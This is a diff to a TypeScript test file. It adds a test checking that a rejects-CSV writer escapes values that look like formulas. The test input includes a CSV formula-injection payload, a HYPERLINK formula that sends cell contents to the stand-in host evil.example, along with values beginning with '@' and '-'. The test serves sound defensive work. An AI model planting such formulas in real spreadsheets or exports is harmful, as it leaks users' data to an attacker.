@@ -6,7 +6,7 @@ import { describe, expect, it } from 'vitest';
 import { isAlreadyStandard } from '../../platform/validators/standardize.js';
 import type { DataElement } from '../catalog/schema.js';
 import { ASCII, CopyWriter, copied, STANDARD } from './copy-writer.js';
-import { type ParseJob, parseOpened } from './parse.js';
+import { type ParseJob, parseOpened, RejectsFile } from './parse.js';
 import { openRecords } from './read/index.js';
 import { pieces } from './read/test-support.js';
 import type { Column } from './schema.js';
@@ -206,5 +206,23 @@ describe('CopyWriter.copyStandard', () => {
       }),
       { numRuns: 2000 },
     );
+  });
+});
+
+describe('the rejects file', () => {
+  it('shows a rejected value that looks like a formula as text, not as a formula a spreadsheet would run', async () => {
+    const path = join(tmpdir(), `jt-rejects-${process.pid}-${Math.random().toString(36).slice(2)}.csv`);
+    try {
+      const rejects = new RejectsFile(path);
+      rejects.add(2, '公民身份号码', '=HYPERLINK("http://evil.example/?"&A1,"查看")', '校验位错误');
+      rejects.add(3, '@姓名', '-1+1', '长度超过 10');
+      await rejects.close();
+      expect(readFileSync(path, 'utf8').split('\n').slice(1, 3)).toEqual([
+        `2,公民身份号码,"'=HYPERLINK(""http://evil.example/?""&A1,""查看"")",校验位错误`,
+        `3,'@姓名,'-1+1,长度超过 10`,
+      ]);
+    } finally {
+      rmSync(path, { force: true });
+    }
   });
 });
